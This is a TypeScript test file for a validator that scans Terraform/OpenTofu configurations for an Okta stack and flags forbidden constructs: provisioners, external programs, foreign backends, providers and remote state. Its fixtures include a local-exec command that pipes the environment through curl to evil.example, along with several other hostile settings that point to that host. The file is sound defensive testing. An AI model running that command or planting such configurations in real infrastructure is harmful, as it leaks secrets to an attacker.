import type { JsonObject } from '../../okta-apps/shared/json';
import { problems, SHOP, withAt } from './support/document-problems';

// threats.md, section 3: what a document may hold.

const APP = 'resource/okta_app_oauth/web';
const RUN = { 'local-exec': { command: 'env | curl -d @- https://evil.example' } };
const S3 = { bucket: 'acme-state', region: 'eu-central-1' };
const ASSERT = { condition: '${true}', error_message: 'x' };

describe('what is on no list is found', () => {
  test.each<[attack: string, path: string, value: unknown, says: string]>([
    ['a provisioner', `${APP}/provisioner`, [RUN], 'runs-programs okta_app_oauth.web web.provisioner'],
    ['a provisioner as an object', `${APP}/provisioner`, RUN, 'runs-programs okta_app_oauth.web web.provisioner'],
    ['a connection', `${APP}/connection`, { host: 'evil.example' }, 'runs-programs okta_app_oauth.web web.connection'],
    [
      'a provisioner deep inside',
      `${APP}/a/b`,
      [{ provisioner: RUN }],
      'runs-programs okta_app_oauth.web b.provisioner',
    ],
    [
      'a provisioner of terraform_data',
      'resource/terraform_data/x/provisioner',
      [RUN],
      'runs-programs terraform_data.x x.provisioner',
    ],
    [
      'a provisioner of what is removed',
      'removed',
      [{ from: 'okta_group.x', provisioner: [RUN] }],
      'runs-programs okta_group.x removed.provisioner',
    ],
    ['data.external', 'data/external/x', { program: ['sh'] }, 'runs-programs data.external.x data'],
    ['ephemeral.external', 'ephemeral/external/x', { program: ['sh'] }, 'runs-programs ephemeral.external.x ephemeral'],
    ['the provider external', 'provider/external', [{}], 'type-not-listed provider.external provider'],
    ['an action', 'action/local_command/x', { config: {} }, 'not-listed action action'],
    [
      'a trigger of an action',
      `${APP}/lifecycle/action_trigger`,
      [{}],
      'not-listed okta_app_oauth.web lifecycle.action_trigger',
    ],
    ['a list block', 'list/okta_group/x', {}, 'not-listed list list'],
    ['an unknown block', 'language', {}, 'not-listed language language'],
    [
      'an encryption of OpenTofu',
      'terraform/encryption',
      { key_provider: { external: {} } },
      'not-listed terraform encryption',
    ],
    ['provider_meta', 'terraform/provider_meta', { okta: {} }, 'not-listed terraform provider_meta'],
    ['experiments', 'terraform/experiments', ['x'], 'not-listed terraform experiments'],
    ['HCP Terraform', 'terraform/cloud', { hostname: 'evil.example' }, 'other-backend terraform backend'],
    ['another bucket', 'terraform/backend/s3/bucket', 'evil', 'other-backend terraform backend'],
    [
      'another kind of backend',
      'terraform/backend',
      { http: { address: 'https://evil.example' } },
      'other-backend terraform backend',
    ],
    [
      'an endpoint of the backend',
      'terraform/backend/s3/endpoints',
      { s3: 'https://evil.example' },
      'other-backend terraform backend',
    ],
    ['no backend', 'terraform/backend', {}, 'other-backend terraform backend'],
    ['an expression in the settings', 'terraform/required_version', '${var.x}', 'not-listed terraform expression'],
    [
      'another provider',
      'terraform/required_providers/null',
      { source: 'hashicorp/null' },
      'type-not-listed provider.null required_providers.null',
    ],
    [
      'a foreign okta',
      'terraform/required_providers/okta/source',
      'evil/okta',
      'type-not-listed provider.okta required_providers.okta',
    ],
    [
      'okta of another registry',
      'terraform/required_providers/okta/source',
      'evil.example/okta/okta',
      'type-not-listed provider.okta required_providers.okta',
    ],
    [
      'a second name for okta',
      'terraform/required_providers/okta2',
      { source: 'evil/okta' },
      'type-not-listed provider.okta2 required_providers.okta2',
    ],
    ['a resource of a second name', `${APP}/provider`, 'okta2', 'type-not-listed okta_app_oauth.web provider'],
    ['a resource of another provider', 'resource/null_resource/x', {}, 'type-not-listed null_resource.x resource'],
    ['a data source of another provider', 'data/dns/x', { host: 'evil.example' }, 'type-not-listed data.dns.x data'],
    ['an ephemeral resource', 'ephemeral/okta_x/y', {}, 'type-not-listed ephemeral.okta_x.y ephemeral'],
    [
      'a proxy of the provider',
      'provider/okta',
      [{ http_proxy: 'https://evil.example' }],
      'provider-configuration provider.okta http_proxy',
    ],
    [
      'a token of the provider',
      'provider/okta',
      [{}, { alias: 'x', api_token: '${var.t}' }],
      'provider-configuration provider.okta api_token',
    ],
    [
      'a provider as an object',
      'provider/okta',
      { private_key: 'x' },
      'provider-configuration provider.okta private_key',
    ],
    ['arguments in _', `${APP}/_`, { redirect_uris: ['https://evil.example'] }, 'not-listed okta_app_oauth.web _'],
    ['an unknown lifecycle', `${APP}/lifecycle/enabled`, false, 'not-listed okta_app_oauth.web lifecycle.enabled'],
    ['an argument of terraform_data', 'resource/terraform_data/x/store', {}, 'not-listed terraform_data.x store'],
    [
      'data inside of a check',
      'check/x',
      { data: { http: { y: { url: 'https://evil.example' } } }, assert: ASSERT },
      'not-listed check.x data',
    ],
    ['data inside of a list of checks', 'check', [{ x: { data: {} } }], 'not-listed check.x data'],
    [
      'a setting of an import',
      'import',
      [{ to: 'okta_group.x', id: '1', for_each: {} }],
      'not-listed okta_group.x import.for_each',
    ],
    [
      'a setting of a condition',
      `${APP}/lifecycle/precondition`,
      [{ ...ASSERT, x: 1 }],
      'not-listed okta_app_oauth.web precondition.x',
    ],
    ['a setting of a variable', 'variable/x/const', true, 'not-listed var.x const'],
    [
      'a module of a registry',
      'module/x',
      { source: 'evil/x/okta', version: '1.0.0' },
      'module-not-read module.x@evil/x/okta?1.0.0 source',
    ],
    ['a module of this folder', 'module/x', { source: './assets/x' }, 'module-not-read module.x@./assets/x source'],
    [
      'the state of another stack',
      'data/terraform_remote_state/x',
      { backend: 's3', config: { ...S3, key: 'other.tfstate' } },
      'other-state data.terraform_remote_state.x config',
    ],
    [
      'a state over HTTP',
      'data/terraform_remote_state/x',
      { backend: 'http', config: { address: 'https://evil.example/${okta_app_oauth.web.id}' } },
      'other-state data.terraform_remote_state.x config',
    ],
    [
      'a state with defaults',
      'data/terraform_remote_state/x',
      { backend: 's3', config: { ...S3, key: 'shop.tfstate' }, defaults: { uri: 'x' } },
      'other-state data.terraform_remote_state.x config',
    ],
    [
      'a state of another workspace',
      'data/terraform_remote_state/x',
      { backend: 's3', config: { ...S3, key: 'shop.tfstate' }, workspace: 'evil' },
      'other-state data.terraform_remote_state.x config',
    ],
    [
      'a state with another endpoint',
      'data/terraform_remote_state/x',
      { backend: 's3', config: { ...S3, key: 'shop.tfstate', endpoint: 'evil.example' } },
      'other-state data.terraform_remote_state.x config',
    ],
  ])('%s', (_, path, value, says) => {
    expect(problems(withAt(path, value))).toContain(says);
  });

  test('a new stack has the backend of another one of the environment, with its name in place of that', () => {
    const at = (key: string): object => withAt('terraform/backend/s3/key', key);
    expect(problems(at('desk.tfstate'), [], 'desk')).toEqual([]);
    expect(problems(at('shop.tfstate'), [], 'desk')).toEqual(['other-backend terraform backend']);
    expect(problems(at('elsewhere/desk.tfstate'), [], 'desk')).toEqual(['other-backend terraform backend']);
    expect(problems(at('desk.tfstate'), [])).toEqual(['other-backend terraform backend']);
  });

  test('a stack of the head with another backend is no stack whose state may be read', () => {
    const evil = { name: 'evil', document: withAt('terraform/backend/s3/bucket', 'evil') as JsonObject };
    const state = { backend: 's3', config: { ...S3, bucket: 'evil', key: 'shop.tfstate' } };
    expect(problems(withAt('data/terraform_remote_state/x', state), [SHOP, evil])).toEqual([
      'other-state data.terraform_remote_state.x config',
    ]);
  });
});
